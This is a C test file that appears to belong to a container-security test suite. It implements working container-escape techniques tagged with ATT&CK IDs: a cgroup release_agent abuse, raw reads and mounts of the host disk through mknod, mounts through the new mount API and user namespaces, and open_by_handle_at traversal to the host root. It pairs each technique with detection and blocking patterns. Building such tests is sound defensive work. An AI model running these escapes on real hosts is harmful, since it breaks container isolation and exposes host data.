/* SPDX-License-Identifier: Apache-2.0 */
/* By mounts and devices. */
#include <fcntl.h>
#include <linux/mount.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <unistd.h>

#include "tests/e2e/escapes/techniques/technique.h"

#define DISK "/tmp/disk"
#define RAM_MAJOR 1

/* A cgroup hierarchy whose release agent the kernel runs on the host when its last task is gone. */
static int release_agent(int victim)
{
	pid_t pid;
	int r;

	(void)victim;
	r = FAILED(mount("cgroup", AT, "cgroup", 0, "none,name=escape"));
	if (r)
		return r;
	r = text_write(AT "/release_agent", HOST_SCRIPT "\n");
	if (r)
		return r;
	mkdir(AT "/x", 0755);
	r = text_write(AT "/x/notify_on_release", "1\n");
	if (r)
		return r;
	pid = fork();
	if (pid == 0)
		_exit(text_write(AT "/x/cgroup.procs", "0\n"));
	waitpid(pid, &r, 0);
	return pid < 0 ? errno : status_of(r);
}

static int make_disk_node(void)
{
	unlink(DISK);
	return FAILED(mknod(DISK, S_IFBLK | 0600, makedev(RAM_MAJOR, 0)));
}

static int disk_read(int victim)
{
	static char block[1 << 16];
	int r = make_disk_node(), fd;

	(void)victim;
	if (r)
		return r;
	fd = open(DISK, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return errno;
	while (read(fd, block, sizeof(block)) > 0)
		for (size_t i = 0; i < sizeof(block); i += 512)
			if (strncmp(block + i, FLAG, strlen(FLAG)) == 0)
				prove_gain();
	close(fd);
	return loot[0] ? 0 : ENOENT;
}

static int disk_mount(int victim)
{
	int r = make_disk_node();

	(void)victim;
	if (r)
		return r;
	r = FAILED(mount(DISK, AT, "ext4", 0, NULL));
	return r ? r : flag_open(AT "/flag");
}

static int new_mount(void)
{
	int fs = (int)syscall(SYS_fsopen, "tmpfs", FSOPEN_CLOEXEC), mnt;
	struct stat before, after;

	if (fs < 0)
		return errno;
	if (syscall(SYS_fsconfig, fs, FSCONFIG_SET_STRING, "size", "64k", 0) < 0 ||
	    syscall(SYS_fsconfig, fs, FSCONFIG_CMD_CREATE, NULL, NULL, 0) < 0)
		return errno;
	mnt = (int)syscall(SYS_fsmount, fs, FSMOUNT_CLOEXEC, 0);
	if (mnt < 0)
		return errno;
	if (stat(AT, &before) < 0 ||
	    syscall(SYS_move_mount, mnt, "", AT_FDCWD, AT, MOVE_MOUNT_F_EMPTY_PATH) < 0 ||
	    stat(AT, &after) < 0)
		return errno;
	if (before.st_dev == after.st_dev)
		return ENOENT;
	prove_gain();
	return 0;
}

static int new_mount_api(int victim)
{
	(void)victim;
	return new_mount();
}

/* In a user namespace everybody may mount. */
static int user_namespace_mount(int victim)
{
	int r = FAILED(unshare(CLONE_NEWUSER | CLONE_NEWNS));

	(void)victim;
	return r ? r : new_mount();
}

static char stack[1 << 16] __attribute__((aligned(16)));

static int new_mount_in_child(void *unused)
{
	(void)unused;
	return new_mount();
}

/* The same by a call that the service knows. */
static int user_namespace_clone(int victim)
{
	pid_t pid = clone(new_mount_in_child, stack + sizeof(stack),
			  CLONE_NEWUSER | CLONE_NEWNS | SIGCHLD, NULL);
	int status;

	(void)victim;
	if (pid < 0 || waitpid(pid, &status, 0) < 0)
		return errno;
	return status_of(status);
}

/* A file of the disk that a shared directory lies on, by its handle: the root is inode 2. */
static int by_handle(int victim)
{
	struct {
		struct file_handle h;
		unsigned char bytes[8];
	} x = {.h = {.handle_bytes = sizeof(x.bytes), .handle_type = 1 /* inode, generation */},
	       .bytes = {2}};
	int shared = open(SHARED "/config", O_RDONLY | O_CLOEXEC), top;

	(void)victim;
	if (shared < 0)
		return errno;
	top = open_by_handle_at(shared, &x.h, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (top < 0)
		return errno;
	return flag_read(openat(top, "flag", O_RDONLY | O_CLOEXEC));
}

/* What is mounted in the container's namespace can be seen from outside. */
static bool is_mounted(struct host *h)
{
	char path[64];
	struct stat at, root;

	snprintf(path, sizeof(path), "%s" AT, h->root);
	return stat(path, &at) == 0 && stat(h->root, &root) == 0 && at.st_dev != root.st_dev;
}

const struct technique mount_techniques[] = {
	{"release_agent", "T1611", "mounts a cgroup hierarchy; the host runs its release agent",
	 .seen = "^mount hook sb_mount|^mount $", .stopped = "^mount ", .hook = "sb_mount",
	 .run = release_agent, .probe = host_ran},
	{"mknod_read", "T1006", "makes the host disk's device node and reads it raw",
	 .seen = "^mknod.* mknod /tmp/disk", .also = "open r blockdev /tmp/disk",
	 .stopped = "^mknod|/tmp/disk", .hook = "capable", .run = disk_read},
	{"mknod_mount", "T1611", "makes the host disk's device node and mounts it",
	 .seen = "^mknod.* mknod /tmp/disk", .also = "^mount ", .stopped = "^mknod|^mount ",
	 .hook = "capable", .run = disk_mount},
	{"new_mount_api", "T1611", "mounts by fsopen, fsconfig, fsmount and move_mount",
	 .seen = "^fsopen ", .also = "^move_mount ", .stopped = "^fsopen |^fsmount |^move_mount ",
	 .hook = "capable", .run = new_mount_api, .probe = is_mounted},
	{"user_namespace_mount", "T1611", "makes a user namespace of its own and mounts in it",
	 .seen = "^unshare ", .also = "^fsopen ", .stopped = "^unshare ", .hook = "userns_create",
	 .run = user_namespace_mount},
	{"user_namespace_clone", "T1611", "makes a user namespace by clone and mounts in it",
	 .seen = "hook userns_create", .also = "^fsopen ", .run = user_namespace_clone},
	{"open_by_handle_at", "T1611",
	 "opens the host disk's root by a guessed handle, walks from there",
	 .seen = "^open_by_handle_at ", .hook = "capable", .run = by_handle},
	{0},
};
